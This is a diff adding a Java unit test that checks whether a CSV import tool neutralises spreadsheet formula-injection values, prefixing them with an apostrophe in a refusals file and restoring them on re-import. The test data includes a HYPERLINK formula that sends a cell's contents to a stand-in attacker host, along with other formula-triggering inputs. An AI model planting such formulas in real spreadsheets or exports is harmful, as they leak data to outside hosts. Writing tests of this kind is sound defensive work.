@@ -314,6 +314,53 @@ class CsvImportTest {
     }
 
     @Test
+    void writesNoFormulaAmongTheRefusalsAndReadsThemBackAsTheyWere() throws Exception {
+        List<String> notes = List.of(
+                "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"open\")",
+                "+49 30 1",
+                "-5",
+                "@A1",
+                "＝1",
+                "a;=1,-2",
+                "'spring'",
+                "1-2");
+        var rows = new StringBuilder("id,@note,won\n");
+        for (String note : notes) {
+            rows.append("1,\"%s\",yesterday\n".formatted(note.replace("\"", "\"\"")));
+        }
+        write("leads.csv", rows.toString());
+        String mapping = """
+                [files]
+                lead = %s
+                [CloseWon]
+                leadId = {id | uuid crm}
+                note = {@note}
+                """;
+        write("mapping", mapping.formatted("leads.csv") + "occurredAt = {won | moment yyyy-MM-dd}\n");
+
+        ImportTool.run(folder, Map.of(), "--mapping", "mapping", "--write", "-");
+
+        Path refusals = folder.resolve("refusals.csv");
+        assertThat(Files.readAllLines(refusals))
+                .extracting(line -> line.replaceFirst(".*(,id,|yyyy-MM-dd\",1,)(.*),(won|yesterday)$", "$2"))
+                .containsExactly(
+                        "'@note",
+                        "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"open\"\")\"",
+                        "'+49 30 1",
+                        "'-5",
+                        "'@A1",
+                        "'＝1",
+                        "\"a;'=1,'-2\"",
+                        "'spring'",
+                        "1-2");
+        Files.move(refusals, folder.resolve("corrected.csv"));
+        assertThat(commands(mapping.formatted("corrected.csv")))
+                .extracting(
+                        line -> line.replaceFirst(".*\"note\":\"(.*)\"}$", "$1").replace("\\\"", "\""))
+                .isEqualTo(notes);
+    }
+
+    @Test
     void saysWhichLineOfAMappingIsWrongBeforeAnythingIsSent() throws Exception {
         write("leads.csv", "id,mail\n1,a@example.com\n");
         String head = "[files]\nlead = leads.csv\n[RegisterLead]\nleadId = {id | uuid crm}\n";
